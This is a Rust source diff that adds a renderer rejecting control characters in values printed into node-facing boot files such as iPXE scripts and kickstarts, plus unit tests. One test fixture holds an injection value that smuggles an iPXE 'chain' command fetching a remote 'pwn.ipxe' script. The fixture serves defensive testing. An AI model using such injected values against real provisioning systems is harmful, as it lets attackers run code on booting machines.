@@ -9,8 +9,12 @@
 //! template machine and [`MAX_OUTPUT`] bytes of output per template; a template over either
 //! fails its task with a message naming the limit. Rendering runs on the blocking pool,
 //! never on the scheduler.
+//!
+//! The binary also renders node-facing files (iPXE scripts, kickstarts) with a
+//! [`Renderer::checked`] renderer: every value printed by `{{ ... }}` must pass the format's
+//! check, so that a value a node controls cannot add lines to what the node runs.
 
-use minijinja::{Environment, UndefinedBehavior};
+use minijinja::{Environment, ErrorKind, UndefinedBehavior};
 use serde_json::{Map, Value};
 
 /// The most steps one template may take (minijinja's fuel: roughly one per instruction).
@@ -58,6 +62,19 @@ impl Renderer {
         env.set_keep_trailing_newline(true);
         env.set_fuel(Some(FUEL));
         Self { env }
+    }
+
+    /// A renderer whose every printed value (`{{ ... }}`, filters applied, `safe` or not) must
+    /// pass `check`; a value that fails makes the whole rendering fail with `check`'s message
+    /// and the template line. Literal template text is not checked: it is the operator's.
+    pub fn checked(check: fn(&str) -> Result<(), String>) -> Self {
+        let mut renderer = Self::new();
+        renderer.env.set_formatter(move |out, _state, value| {
+            let text = value.to_string();
+            check(&text).map_err(|why| minijinja::Error::new(ErrorKind::InvalidOperation, why))?;
+            out.write_str(&text).map_err(minijinja::Error::from)
+        });
+        renderer
     }
 
     /// Renders one template string over `vars`, within [`FUEL`] and [`MAX_OUTPUT`].
@@ -195,6 +212,27 @@ impl std::io::Write for Limited {
     }
 }
 
+/// The check of node-facing text formats (kickstarts, preseeds, scripts) for
+/// [`Renderer::checked`]: a printed value may hold no control character (a line break above
+/// all) and no Unicode line or paragraph separator, so it can neither add a line nor end the
+/// one it is on. Which quoting a format needs beyond that is the template's business.
+pub fn no_control_characters(value: &str) -> Result<(), String> {
+    match value
+        .chars()
+        .find(|c| c.is_control() || matches!(c, '\u{2028}' | '\u{2029}'))
+    {
+        None => Ok(()),
+        Some(c) => {
+            let head: String = value.chars().take(40).collect();
+            Err(format!(
+                "a value with the control character U+{:04X} cannot be printed into a node-facing file: {head:?}{}",
+                u32::from(c),
+                if head.len() < value.len() { "..." } else { "" }
+            ))
+        }
+    }
+}
+
 fn describe(e: &minijinja::Error) -> String {
     let mut msg = e.to_string();
     let mut src = std::error::Error::source(e);
@@ -259,5 +297,31 @@ mod tests {
         assert!(r.truthy("context.probe.n == 3", &vars).unwrap());
         assert!(!r.truthy("{{ context.probe.n > 5 }}", &vars).unwrap());
         assert!(r.truthy("{{ 'maybe' }}", &vars).is_err());
+    }
+
+    #[test]
+    fn a_checked_renderer_checks_every_printed_value_but_not_the_template_text() {
+        let r = Renderer::checked(no_control_characters);
+        let vars =
+            json!({"node": {"name": "evil\nchain http://127.0.0.1:1/pwn.ipxe", "ok": "rack1"}});
+        assert_eq!(
+            r.render_str("line one\n{{ node.ok }}\n", &vars).unwrap(),
+            "line one\nrack1\n"
+        );
+        for template in [
+            "# Node {{ node.name }}",
+            "{{ node.name | safe }}",
+            "{{ node.name | upper }}",
+            "{% for n in [node.name] %}{{ n }}{% endfor %}",
+        ] {
+            let err = r.render_str(template, &vars).expect_err(template);
+            assert!(err.contains("U+000A"), "{template}: {err}");
+            assert!(!err.contains('\n'), "one line: {err}");
+        }
+        assert!(no_control_characters("tab\t").is_err());
+        assert!(no_control_characters("sep\u{2028}").is_err());
+        assert!(no_control_characters("caf\u{e9} & $x ; 'q'").is_ok());
+        // Unchecked rendering is unchanged.
+        assert!(Renderer::new().render_str("{{ node.name }}", &vars).is_ok());
     }
 }
